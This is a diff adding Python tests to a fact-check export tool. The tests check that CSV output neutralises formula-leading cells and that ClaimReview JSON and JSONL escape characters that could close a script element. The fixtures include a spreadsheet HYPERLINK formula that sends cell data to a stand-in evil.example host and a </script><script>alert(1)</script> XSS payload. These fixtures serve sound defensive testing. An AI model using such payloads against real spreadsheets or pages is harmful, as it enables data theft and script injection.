@@ -58,3 +58,46 @@ def test_claimreview_of_nothing_is_an_empty_list() -> None:
     out = io.StringIO()
     write_claimreview(iter(ROWS[1:]), out, author="x", verdicts=DEFAULT_VERDICTS)
     assert json.loads(out.getvalue()) == []
+
+
+HOSTILE = dict(ROWS[0], id=3, text='=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
+               speaker="+Mayor", note="-2+3", article_title="@SUM(A1:A9)",
+               article_outlet="\tTabbed", article_url="\rhttp://x", verdict="False")
+
+
+def test_csv_cells_that_would_start_a_formula_are_quoted_as_owasp_advises() -> None:
+    out = io.StringIO()
+    write_csv(iter([ROWS[0], HOSTILE]), out)
+    plain, hostile = csv.DictReader(io.StringIO(out.getvalue(), newline=""))
+    assert hostile["text"] == "'" + HOSTILE["text"]
+    assert hostile["speaker"] == "'+Mayor"
+    assert hostile["note"] == "'-2+3"
+    assert hostile["article_title"] == "'@SUM(A1:A9)"
+    assert hostile["article_outlet"] == "'\tTabbed"
+    assert hostile["article_url"] == "'\rhttp://x"
+    # Ordinary cells and numbers are written as they are.
+    assert plain["text"] == ROWS[0]["text"] and plain["score"] == "0.91"
+    assert hostile["id"] == "3"
+
+
+SCRIPT_BREAKER = dict(ROWS[0], text="The pier </script><script>alert(1)</script> cost A&B 2 million.",
+                      note="<!-- hidden -->", speaker="Tom & Jerry\u2028")
+
+
+def test_claimreview_json_cannot_close_the_script_element_it_is_embedded_in() -> None:
+    out = io.StringIO()
+    write_claimreview(iter([SCRIPT_BREAKER]), out, author="<b>Checks</b>", verdicts=DEFAULT_VERDICTS)
+    page = out.getvalue()
+    for raw in ("<", ">", "&", "\u2028"):
+        assert raw not in page
+    [review] = json.loads(page)  # escaped, yet the same data
+    assert review["claimReviewed"] == SCRIPT_BREAKER["text"]
+    assert review["reviewBody"] == "<!-- hidden -->"
+    assert review["author"]["name"] == "<b>Checks</b>"
+
+
+def test_jsonl_is_escaped_the_same_way_and_reads_back_exactly() -> None:
+    out = io.StringIO()
+    write_jsonl(iter([SCRIPT_BREAKER]), out)
+    assert "</script>" not in out.getvalue() and "&" not in out.getvalue()
+    assert json.loads(out.getvalue())["text"] == SCRIPT_BREAKER["text"]
